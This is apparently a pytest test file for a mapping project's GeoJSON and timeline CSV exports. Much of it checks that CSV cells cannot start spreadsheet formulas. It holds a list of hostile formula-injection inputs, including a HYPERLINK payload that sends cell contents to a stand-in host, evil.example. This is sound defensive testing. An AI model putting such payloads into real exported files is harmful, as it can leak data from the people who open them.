from __future__ import annotations

import csv
import functools
import io
import json
import re
from dataclasses import replace
from datetime import date
from pathlib import Path

import pytest

from geo.load.story import load_story
from geo.model import Story
from geo.render.downloads import timeline_csv, visible_geojson
from tests.conftest import FIXTURES, read, write


def test_visible_geojson_holds_what_the_map_shows() -> None:
    story = load_story(FIXTURES / "mini")
    data = json.loads(visible_geojson(story, date(2019, 6, 1), ["zones", "towns"]))
    assert data["type"] == "FeatureCollection"
    assert [f["properties"]["id"] for f in data["features"]] == ["zone-a", "town-a"]
    only_towns = json.loads(visible_geojson(story, date(2020, 1, 10), ["towns"]))
    assert [f["properties"]["id"] for f in only_towns["features"]] == ["town-a", "town-b"]


def test_timeline_csv_rows_in_date_order() -> None:
    rows = list(csv.DictReader(io.StringIO(timeline_csv(load_story(FIXTURES / "mini")))))
    assert [r["date"] for r in rows] == ["2019-06-01", "2020-01-10"]
    assert rows[1]["from_article"] == "yes" and rows[1]["paragraphs"] == "3" and rows[1]["features"] == "town-b"


def test_csv_cells_never_start_a_formula(mini_copy: Path) -> None:
    events = read(mini_copy / "events.json")
    events["events"][0]["title"] = "=HYPERLINK(\"http://x\")"
    write(mini_copy / "events.json", events)
    rows = list(csv.DictReader(io.StringIO(timeline_csv(load_story(mini_copy)))))
    assert rows[1]["title"] == "'=HYPERLINK(\"http://x\")"


# Hostile event text: every C0 control and DEL at the start of a cell and after each kind of line break,
# the C1 controls, and the OWASP triggers alone and behind blanks.
CONTROLS = [chr(c) for c in (*range(0x20), 0x7F)]
BREAKS = ["\r", "\n", "\r\n"]
HOSTILE = [
    *(f"{c}=1+1" for c in CONTROLS),
    *(f"Safe line{brk}{c}=1+1" for brk in BREAKS for c in CONTROLS),
    *(f"{chr(c)}@SUM(A1:A9)" for c in range(0x80, 0xA0)),
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1", "-1", "@SUM(A1:A9)", "\t=1", " =1", "  \t -2+3",
    "\u00a0=1", "\u200b=1", "\ufeff=1", "\uff1d1+1", "\r=1+1", "Harmless\r=1+1\r+2\r\n-3\n@4\r\n \t=5",
]
ORDINARY = ["Saraqib retaken", "Government forces retake Saraqib; 2 km north of the M5.", "A = B, e-mail, a\tb, 50%"]
FORMULA = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
LEFT_CONTROLS = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")


def starts_formula(text: str) -> bool:
    return text.startswith(("\t", "\r")) or text.lstrip().lstrip("\u200b\ufeff").startswith(FORMULA)


@functools.cache
def mini() -> Story:
    return load_story(FIXTURES / "mini")


def story_of(texts: list[str]) -> Story:
    """mini with one event per text, the text as its title, summary, source and date source."""
    template = mini().events[0]
    return replace(mini(), events=[replace(template, id=f"e{i}", title=text, summary=text, source=text,
                                           date_source=text) for i, text in enumerate(texts)])


@pytest.mark.parametrize("text", [*HOSTILE, *ORDINARY], ids=repr)
def test_no_cell_and_no_line_in_a_cell_starts_a_formula(text: str) -> None:
    rows = list(csv.reader(io.StringIO(timeline_csv(story_of([text])), newline="")))
    assert len(rows) == 2 and len(rows[1]) == len(rows[0])
    for cell in rows[1]:
        assert not LEFT_CONTROLS.search(cell), repr(cell)
        assert not starts_formula(cell), repr(cell)
        for line in re.split(r"\r\n|\r|\n", cell):
            assert not starts_formula(line), repr(cell)


def test_every_event_is_one_quoted_row_and_ordinary_text_is_unchanged() -> None:
    story = story_of([*HOSTILE, *ORDINARY])
    text = timeline_csv(story)
    assert text.startswith('"date","precision","title","summary",') and text.endswith('"\r\n')
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == len(story.events) + 1  # a line break inside a cell starts no row
    titles = [row[2] for row in rows[1:]]
    assert titles[-len(ORDINARY):] == ORDINARY
    assert all(row[2] == row[3] == row[7] == row[8] for row in rows[1:])  # title, summary, source, date_source
    assert titles[0] == "\ufffd=1+1"  # NUL replaced; the cell no longer starts a formula
    first = story.events[0]
    assert all(row[:2] == [first.date.isoformat(), first.precision] for row in rows[1:])
